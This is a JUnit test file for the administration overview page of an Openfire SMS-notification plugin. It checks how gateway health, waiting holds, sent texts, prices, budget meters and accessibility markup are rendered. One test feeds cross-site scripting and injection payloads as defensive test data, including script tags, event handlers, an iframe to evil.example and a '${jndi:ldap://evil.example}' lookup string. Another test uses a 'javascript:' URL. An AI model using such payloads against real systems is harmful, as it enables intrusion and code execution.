package org.igniterealtime.openfire.plugins.smsnotify.admin;

import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.NOON;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.ails;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.delayed;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.priced;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.text;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.verdict;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.waiting;
import static org.igniterealtime.openfire.plugins.smsnotify.admin.Console.works;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Html;
import org.igniterealtime.openfire.plugins.smsnotify.gateway.Health;
import org.igniterealtime.openfire.plugins.smsnotify.gateway.Meaning;
import org.igniterealtime.openfire.plugins.smsnotify.hold.WaitingHold;
import org.igniterealtime.openfire.plugins.smsnotify.model.Money;
import org.igniterealtime.openfire.plugins.smsnotify.model.Reason;
import org.igniterealtime.openfire.plugins.smsnotify.model.Senders;
import org.igniterealtime.openfire.plugins.smsnotify.outbox.TextState;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;

/** What an administrator sees. */
class OverviewPageTest {

  private static final String ROMEO = "romeo@example.org";
  private static final String JULIET = "juliet@example.org";
  private static final String PLACE = "(place)";

  private final Console console = new Console();

  private Html page() throws Exception {
    return Html.parse(console.page().body());
  }

  /** A console with something in each part of the page, every string being the given one. */
  private static Console full(String any) {
    return new Console()
        .gateway(any, true)
        .health(
            works(any, any), ails(any, Health.State.PAUSED, NOON, Meaning.OUT_OF_MONEY, any, any))
        .budget("40", "50", true)
        .problem(any, any)
        .waiting(
            waiting(any, any, List.of(any, any)), delayed(any, any, "ball", Reason.QUIET_HOURS))
        .texts(
            text(any, any, "sandbox", TextState.SENT),
            text(any, "sandbox", new Senders(any, any), any),
            priced(any, 7_900, null),
            text(any, null, any, TextState.FAILED, Optional.of(Meaning.FRAUD), any, any))
        .counts(Map.of(TextState.SENT, 1L, TextState.FAILED, 1L))
        .verdicts(
            verdict(any, Reason.SENT, Map.of("numbers", any)),
            verdict(any, Reason.NUMBER_INVALID, Map.of("rejected", any, "how", any)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</section></div><iframe src='//evil.example'>",
        "{{words.title}}{{{words.title}}}",
        "&lt;b&gt; &amp; &#60;",
        "$1 \\1 {recipient} ${jndi:ldap://evil.example}",
        "<!-- ]]> -->"
      })
  void whateverPeopleCanTypeIsShownAsTheyTypedIt(String hostile) throws Exception {
    Html plain = Html.parse(full(PLACE).page().body());

    Html page = Html.parse(full(hostile).page().body());

    assertEquals(plain.elementNames(), page.elementNames(), "no element comes of it");
    assertEquals(plain.attributeNames(), page.attributeNames(), "nor any attribute");
    assertEquals(plain.text().replace(PLACE, hostile), page.text());
  }

  @Test
  void onAFreshInstallThePageSaysThatNothingHappenedYet() throws Exception {
    String text = page().text();

    assertTrue(text.contains("Texts leave through the gateway sandbox."), text);
    assertTrue(text.contains("Nothing is sent to any phone"), text);
    assertTrue(text.contains("Waiting (0) Nobody is missing anything right now."), text);
    assertTrue(text.contains("No text was written yet."), text);
    assertTrue(text.contains("No verdict was passed yet"), text);
    assertEquals(List.of(), page().texts("table"));
  }

  @Test
  void aGatewayThatCannotBeUsedIsNamedWithItsProblem() throws Exception {
    console
        .gateway("twilio", false)
        .problem("No texts are sent: the auth token is missing.", "Set it.");

    String text = page().text();

    assertTrue(text.contains("this gateway cannot be used yet. It was chosen as twilio."), text);
    assertTrue(
        text.contains(
            "What needs your attention No texts are sent: the auth token is missing."
                + " since 2026-11-21 12:00:00 UTC Set it."),
        text);
    assertFalse(text.contains("Nothing is sent to any phone"), text);
  }

  @Test
  void aHoldIsShownWithWhoTypesAndWhenItComesDue() throws Exception {
    console.load(7, 0, 0, true);
    console.waiting(waiting(ROMEO, JULIET, List.of(JULIET)));

    Html page = page();

    assertTrue(page.texts("h2").contains("Waiting (7)"));
    assertEquals(
        List.of(
            ROMEO, JULIET, "2", "2026-11-21 12:01:00 UTC " + JULIET + " is typing, so it waits"),
        page.texts("td"));
  }

  @Test
  void aHoldThatIsBeingJudgedHasNoTimeAnyMore() throws Exception {
    WaitingHold hold = waiting(ROMEO, JULIET, List.of());
    console.waiting(
        new WaitingHold(
            hold.hold(),
            hold.recipient(),
            hold.conversation(),
            hold.lastSender(),
            1,
            List.of(),
            hold.first(),
            hold.due(),
            null,
            true));

    assertEquals(List.of(ROMEO, JULIET, "1", "being decided now"), page().texts("td"));
  }

  @Test
  void aHoldInARoomSaysWhereTheMessagesAre() throws Exception {
    console.waiting(delayed(ROMEO, JULIET, "ball@conference.example.org", null));

    assertEquals(
        List.of(
            ROMEO,
            JULIET + " in the room ball@conference.example.org",
            "2",
            "2026-11-21 13:00:00 UTC"),
        page().texts("td"));
  }

  @Test
  void whateverARoomIsCalledItIsShownAsItIs() throws Exception {
    console.waiting(delayed(ROMEO, JULIET, "<b>'\"{{recipient}}</b>", null));

    assertEquals(JULIET + " in the room <b>'\"{{recipient}}</b>", page().texts("td").get(1));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          QUIET_HOURS | It is night there: one text tells of it afterwards, if it is still unread.
          CAPPED      | There was a text about this conversation before: the pause between two grows until the person comes back.
          """)
  void aHoldThatIsDelayedSaysUntilWhenAndWhy(Reason delayedBy, String why) throws Exception {
    console.waiting(delayed(ROMEO, JULIET, "ball@conference.example.org", delayedBy));

    assertEquals("2026-11-21 13:00:00 UTC " + why, page().texts("td").get(3));
  }

  @Test
  void aTextThatWasGivenUpSaysSo() throws Exception {
    console.texts(text(ROMEO, null, null, TextState.CANCELLED));

    assertEquals(
        "not sent: seen, opted out, or no longer allowed, before it left",
        page().texts("td").get(6));
  }

  @Test
  void aTextIsShownWithItsMaskedNumberAndItsState() throws Exception {
    console.texts(text(ROMEO, "juliet: \uD83D\uDC8C", "sandbox", TextState.SENT));

    Html page = page();

    assertEquals(
        List.of(
            "2026-11-21 12:00:00 UTC",
            ROMEO + " +1206•••0100",
            "juliet: \uD83D\uDC8C",
            "sandbox",
            "1 GSM 7-bit",
            "",
            "sent"),
        page.texts("td"));
    assertFalse(page.text().contains(Console.MOBILE.e164()));
  }

  @ParameterizedTest(name = "through {0}: {2}")
  @CsvSource(
      nullValues = "none",
      textBlock =
          """
          sandbox, a secret, a secret
          twilio,  a secret, not shown
          sns,     a secret, not shown
          none,    a secret, not shown
          sandbox, none,     not shown
          """)
  void theWordsOfATextAreShownOnlyWhereTheyWentToNobody(String gateway, String body, String shown)
      throws Exception {
    console.texts(text(ROMEO, body, gateway, TextState.UNKNOWN));

    assertEquals(shown, page().texts("td").get(2));
  }

  @ParameterizedTest(name = "through {0}, while {1} is set: {2}")
  @CsvSource(
      nullValues = "none",
      textBlock =
          """
          sandbox, sandbox, Tryout
          sandbox, twilio,  Tryout
          twilio,  twilio,  +12065550111
          sns,     sandbox, +12065550111
          none,    sandbox, Tryout
          none,    sns,     +12065550111
          """)
  void aTextIsShownWithTheSenderThatItHasThere(String gateway, String chosen, String sender)
      throws Exception {
    console.gateway(chosen, true);
    console.texts(text("hello", gateway, new Senders("+12065550111", "Tryout"), ""));

    assertTrue(page().texts("td").get(3).endsWith("from " + sender));
  }

  @ParameterizedTest
  @CsvSource({"sandbox, +12065550111, ''", "twilio, '', Tryout"})
  void theGatewaysOwnSenderIsNotNamed(String gateway, String live, String sandbox)
      throws Exception {
    console.texts(text("hello", gateway, new Senders(live, sandbox), ""));

    assertEquals(gateway, page().texts("td").get(3));
  }

  @Test
  void aPictureThatWentToNobodyCanBeLookedAt() throws Exception {
    String picture = "https://upload.example.org/a.jpg?b='c'&d=\"><script>";
    console.texts(text("hello", "sandbox", Senders.OF_GATEWAY, picture));

    Html page = page();

    assertEquals("hello with a picture", page.texts("td").get(2));
    Element link = pictures(page).findFirst().orElseThrow();
    assertEquals(picture, link.getAttribute("href"));
    assertEquals("noopener noreferrer", link.getAttribute("rel"));
    assertEquals("_blank", link.getAttribute("target"));
    assertEquals(2, page.all("script").count(), "no more than the page has anyway");
  }

  /** Links that lead out of the console. */
  private static Stream<Element> pictures(Html page) {
    return page.all("a").filter(it -> it.hasAttribute("target"));
  }

  @ParameterizedTest(name = "{1} through {0}")
  @CsvSource(
      nullValues = "none",
      textBlock =
          """
          twilio,  https://upload.example.org/a.jpg
          none,    https://upload.example.org/a.jpg
          sandbox, http://upload.example.org/a.jpg
          sandbox, javascript:alert(1)//https://
          sandbox, //upload.example.org/a.jpg
          """)
  void anyOtherPictureIsOnlyMentioned(String gateway, String picture) throws Exception {
    console.texts(text(null, gateway, Senders.OF_GATEWAY, picture));

    assertEquals("not shown with a picture", page().texts("td").get(2));
    assertEquals(0, pictures(page()).count());
    assertFalse(console.page().body().contains(picture));
  }

  @Test
  void aTextThatFailedIsShownWithTheReasonAndTheAdvice() throws Exception {
    console.texts(
        text(
            ROMEO,
            null,
            "twilio",
            TextState.FAILED,
            Optional.of(Meaning.INVALID_NUMBER),
            "21211",
            "The number is not valid."));

    assertEquals(
        "failed 21211: The number is not valid. Correct the number in the user’s properties"
            + " or vCard.",
        page().texts("td").get(6));
  }

  @ParameterizedTest(name = "charged {0}, told {1}: {2}")
  @CsvSource(
      nullValues = "none",
      textBlock =
          """
          7900,  none,    0.0079 USD estimated
          7900,  8300000, 8.30 EUR
          0,     7500,    0.0075 EUR
          0,     0,       0.00 EUR
          0,     none,    ''
          """)
  void aPriceIsAnEstimateUntilTheProviderHasToldIt(long charged, Long told, String shown)
      throws Exception {
    console.texts(priced("", charged, told == null ? null : new Money(told, "EUR")));

    assertEquals(shown, page().texts("td").get(5));
  }

  @Test
  void whatTheProviderSaysIsThereInItsOwnWord() throws Exception {
    console.texts(priced("read", 0, null));

    assertEquals("delivered the provider says read", page().texts("td").get(6));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      nullValues = "none",
      textBlock =
          """
          none | none | 41.00 USD
          none | 50   | 41.00 USD of the hard limit of 50.00 USD
          40   | 50   | 41.00 USD of the hard limit of 50.00 USD; there is a warning from 40.00 USD
          40   | none | 41.00 USD; there is a warning from 40.00 USD
          """)
  void theMonthsSpendStandsBesideItsLimits(String soft, String hard, String shown)
      throws Exception {
    console.budget(soft, hard, false);

    String text = page().text();

    assertTrue(text.contains("Spend (2026-11) " + shown), text);
    assertEquals(hard == null, text.contains("There is no hard limit"), text);
    assertFalse(text.contains("The budget is spent"), text);
  }

  @Test
  void theSpendIsDrawnWithoutAScriptAndCanBeReadAloud() throws Exception {
    console.budget("40", "50", false);
    Html page = page();
    Set<String> ids =
        page.all().map(element -> element.getAttribute("id")).collect(Collectors.toSet());

    Element meter = page.all("meter").findFirst().orElseThrow();

    assertEquals("82", meter.getAttribute("value"));
    assertEquals("100", meter.getAttribute("max"));
    assertEquals("80", meter.getAttribute("low"));
    assertEquals("82%", meter.getTextContent());
    assertTrue(ids.containsAll(List.of(meter.getAttribute("aria-labelledby").split(" ", -1))));
  }

  @Test
  void whereThereIsNoLimitThereIsNothingToDraw() throws Exception {
    assertEquals(0, page().all("meter").count());
  }

  @Test
  void aBudgetThatIsSpentIsSaid() throws Exception {
    console.budget(null, "40", true);

    assertTrue(page().text().contains("The budget is spent: nothing is sent any more"));
    assertEquals(List.of("100%"), page().texts("meter"));
  }

  @Test
  void aGatewayThatDoesNotWorkSaysSinceWhenAndWhy() throws Exception {
    console.health(
        works("sns", "sns"),
        ails(
            "twilio",
            Health.State.RESTING,
            NOON.plusSeconds(30),
            Meaning.TEMPORARY,
            "503",
            "Busy."),
        ails("twilio-eu", Health.State.NOT_SET_UP, null, null, "", ""));

    assertEquals(
        List.of(
            "sns sns",
            "works since 2026-11-21 12:00:00 UTC",
            "",
            "twilio twilio",
            "rests after failures since 2026-11-21 12:00:00 UTC"
                + " next tried 2026-11-21 12:00:30 UTC",
            "503: Busy. The provider cannot be reached or is busy; it is tried again.",
            "twilio-eu twilio",
            "not set up since 2026-11-21 12:00:00 UTC",
            ""),
        page().texts("td"));
  }

  @Test
  void aVerdictIsShownAsASentence() throws Exception {
    console.verdicts(verdict(ROMEO, Reason.READ, Map.of("how", "replied")));

    assertEquals(
        List.of("2026-11-21 12:00:00 UTC", ROMEO, "3", ROMEO + " has answered in the meantime."),
        page().texts("td"));
  }

  @Test
  void whileTheDatabaseIsAwayTheRestIsShown() throws Exception {
    console
        .databaseAway()
        .problem("Something is wrong.", "Mend it.")
        .waiting(waiting(ROMEO, JULIET, List.of()));

    String text = page().text();

    assertTrue(text.contains("The database does not answer"), text);
    assertTrue(text.contains("Something is wrong. since"), text);
    assertTrue(text.contains("Mend it."), text);
    assertTrue(text.contains("The figures cannot be shown now"), text);
    assertTrue(text.contains(ROMEO), text);
    assertFalse(text.contains("No text was written yet."), "nobody knows: " + text);
    assertFalse(text.contains("No verdict was passed yet"), "nobody knows: " + text);
  }

  @ParameterizedTest(name = "{0} overruns, {1} refused, resumed: {2}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      textBlock =
          """
          0 | 0 | true  | ""
          0 | 0 | false | What waited before the server started has not been loaded yet.
          5 | 0 | true  | Events that came faster than they could be taken; messages among them are taken from the offline store: 5
          0 | 4 | true  | Changes that the database refused, each of which is in the log: 4
          """)
  void whatIsUnusualAboutTheLoadIsSaid(long overruns, long refused, boolean resumed, String said)
      throws Exception {
    console.withoutSetup().load(0, overruns, refused, resumed);

    assertEquals(said, String.join(" ", page().texts("li")));
  }

  @Test
  void headingsBeginBelowTheOneOfTheConsoleAndSkipNoLevel() throws Exception {
    List<String> headings =
        Html.parse(full("any").page().body()).elementNames().stream()
            .filter(name -> name.matches("h[1-6]"))
            .toList();

    assertEquals("h2", headings.get(0));
    assertEquals(Set.of("h2", "h3"), new HashSet<>(headings));
    assertEquals(8, headings.stream().filter("h2"::equals).count());
  }

  @Test
  void everyTableHasANameAndEveryColumnAHeading() throws Exception {
    Html page = Html.parse(full("any").page().body());
    Set<String> ids =
        page.all().map(element -> element.getAttribute("id")).collect(Collectors.toSet());

    assertEquals(4, page.all("table").count());
    assertTrue(page.all("table").allMatch(it -> ids.contains(it.getAttribute("aria-labelledby"))));
    assertTrue(page.all("th").allMatch(it -> it.getAttribute("scope").equals("col")));
    assertEquals(page.texts("th"), labelsOfFirstRows(page));
  }

  /** What a cell is called where there is no room for columns. */
  private static List<String> labelsOfFirstRows(Html page) {
    return page.all("tbody")
        .map(body -> (Element) body.getElementsByTagName("tr").item(0))
        .flatMap(
            row ->
                IntStream.range(0, row.getElementsByTagName("td").getLength())
                    .mapToObj(i -> (Element) row.getElementsByTagName("td").item(i)))
        .map(cell -> cell.getAttribute("data-label"))
        .toList();
  }

  @Test
  void noIdIsThereTwice() throws Exception {
    List<String> ids =
        Html.parse(full("any").page().body())
            .all()
            .map(element -> element.getAttribute("id"))
            .filter(id -> !id.isEmpty())
            .toList();

    assertEquals(ids.size(), new HashSet<>(ids).size(), ids.toString());
  }

  @Test
  void thePageKeepsToTheStrictestPolicyOfTheConsole() throws Exception {
    Html page = Html.parse(full("any").page().body());

    assertEquals(List.of("", ""), page.texts("script"), "no script is within the page");
    assertEquals(0, page.all("style").count());
    assertTrue(
        page.attributeNames().stream().noneMatch(it -> it.startsWith("on") || it.equals("style")));
    assertTrue(
        page.all()
            .flatMap(it -> Stream.of(it.getAttribute("src"), it.getAttribute("href")))
            .filter(it -> !it.isEmpty())
            .allMatch(it -> it.matches("(scripts|style)/\\w+\\.(js|css)|[a-z]+\\.jsp([?#].*)?")));
  }

  @ParameterizedTest
  @ValueSource(strings = {"script", "link"})
  void theFilesThatItNamesAreThere(String element) throws Exception {
    assertTrue(
        page()
            .all(element)
            .map(it -> it.getAttribute("src") + it.getAttribute("href"))
            .allMatch(file -> getClass().getClassLoader().getResource(file) != null));
  }

  @Test
  void theConsoleKnowsWhichEntryOfItsMenuItBelongsTo() throws Exception {
    assertTrue(
        page()
            .all("meta")
            .anyMatch(
                it ->
                    it.getAttribute("name").equals("pageID")
                        && it.getAttribute("content").equals("smsnotify-overview")));
    assertEquals(List.of("SMS notifications"), page().texts("title"));
  }

  @ParameterizedTest
  @CsvSource({"en, en", "en-US, en", "tlh, en"})
  void itSaysWhichLanguageItsWordsAreIn(String console, String words) throws Exception {
    this.console.locale(Locale.forLanguageTag(console));

    assertEquals(
        Set.of(words),
        page()
            .all()
            .map(it -> it.getAttribute("lang"))
            .filter(it -> !it.isEmpty())
            .collect(Collectors.toSet()));
  }

  @Test
  void everyTimeCanBeReadByPeopleAndByScripts() throws Exception {
    Html page = Html.parse(full("any").page().body());

    assertEquals(13, page.all("time").count());
    page.all("time")
        .forEach(
            time -> {
              assertTrue(
                  time.getTextContent().matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d UTC"));
              assertTrue(time.getAttribute("datetime").matches("[-0-9]+T[:0-9.]+Z"));
            });
  }
}
